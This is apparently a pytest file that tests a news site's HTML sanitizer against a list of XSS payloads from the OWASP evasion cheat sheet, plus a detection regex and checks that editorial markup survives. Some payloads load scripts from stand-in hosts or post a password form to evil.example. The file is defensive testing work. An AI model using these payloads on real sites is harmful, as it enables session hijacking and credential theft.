"""The one sanitizer for rich text, against the OWASP XSS filter evasion cheat sheet and its
obfuscations, and against the markup that the admin's editor makes, which must survive."""

import re

import pytest

from articles.sanitizer import clean_html
from tests.factories import make_article

# Each vector must come out with no script, no event handler, no style, no dangerous URL.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    (
        '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000'
        "105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000"
        '039&#0000088&#0000083&#0000083&#0000039&#0000041">'
    ),
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
        '&#0000116&#0000058alert(1)">x</a>'
    ),
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    "<svg/onload=alert('XSS')>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    "<BODY ONLOAD=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    (
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDA'
        "vc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3Lncz"
        "Lm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw "
        "IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc"
        '3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'
    ),
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<p onclick="alert(1)" onmouseover=alert(1) ONFOCUS="alert(1)">text</p>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="https://example.org" target="_blank" rel="opener">opener</a>',
]

# A tag or attribute that runs code, loads something, or styles the page.
DANGER = re.compile(
    r"<\s*/?\s*(script|style|iframe|frame|frameset|object|embed|svg|math|img|form|input|button|link|meta|base|body"
    r"|div|details|textarea|template|noscript|xmp)\b"
    r"|\son\w+\s*=|\sstyle\s*=|\ssrc\s*=|\sformaction\s*=|\starget\s*=|(java|vb|live)script\s*:|data\s*:",
    re.IGNORECASE,
)


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vectors_are_defused(vector):
    cleaned = clean_html(vector)
    assert not DANGER.search(cleaned), cleaned
    # Whatever is left of a link points nowhere dangerous.
    for href in re.findall(r'href="([^"]*)"', cleaned):
        assert href.startswith(("https://", "http://", "mailto:", "/", "#")), href


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_cleaning_twice_changes_nothing(vector):
    once = clean_html(vector)
    assert clean_html(once) == once


ALLOWED = [
    "<p>A paragraph with <strong>bold</strong>, <em>italic</em>, <b>b</b> and <i>i</i>.</p>",
    "<h2>Heading two</h2><h3>Heading three</h3><h4>Heading four</h4>",
    "<ul><li><p>One</p></li><li><p>Two</p></li></ul>",
    '<ol start="3"><li><p>Third</p></li></ol>',
    "<blockquote><p>“A quote,” she said.</p></blockquote>",
    '<p><a href="https://example.org/report?id=1&amp;lang=es" title="The report" rel="noopener">a link</a></p>',
    '<p><a href="/news/briefs/another-story/" rel="noopener">our story</a></p>',
    '<p><a href="mailto:tips@example.org" rel="noopener">write to us</a></p>',
    "<p>Line one<br>line two</p><hr><p>H<sub>2</sub>O and 10<sup>3</sup></p>",
    "<figure><blockquote><p>Pull quote</p></blockquote><figcaption>Source</figcaption></figure>",
    "<p>5 &lt; 6 &amp; 7 &gt; 3, “quotes” and accents: señor, São Paulo</p>",
]


@pytest.mark.parametrize("html", ALLOWED)
def test_allowed_markup_survives_unchanged(html):
    assert clean_html(html) == html


def test_links_lose_targets_and_get_noopener():
    cleaned = clean_html('<a href="https://example.org" target="_blank">x</a>')
    assert cleaned == '<a href="https://example.org" rel="noopener">x</a>'


def test_a_list_start_is_a_number_or_nothing():
    assert clean_html('<ol start="javascript:alert(1)"><li>x</li></ol>') == "<ol><li>x</li></ol>"


@pytest.mark.django_db
def test_every_rich_text_field_is_cleaned_on_save_whoever_wrote_it():
    article = make_article(
        body='<p onclick="alert(1)">Body</p><script>alert(1)</script>',
        analysis='<p><a href="jav&#x09;ascript:alert(1)">Analysis</a></p><iframe src="https://x.example"></iframe>',
    )
    article.refresh_from_db()
    assert article.body == "<p>Body</p>"
    assert article.analysis == '<p><a rel="noopener">Analysis</a></p>'
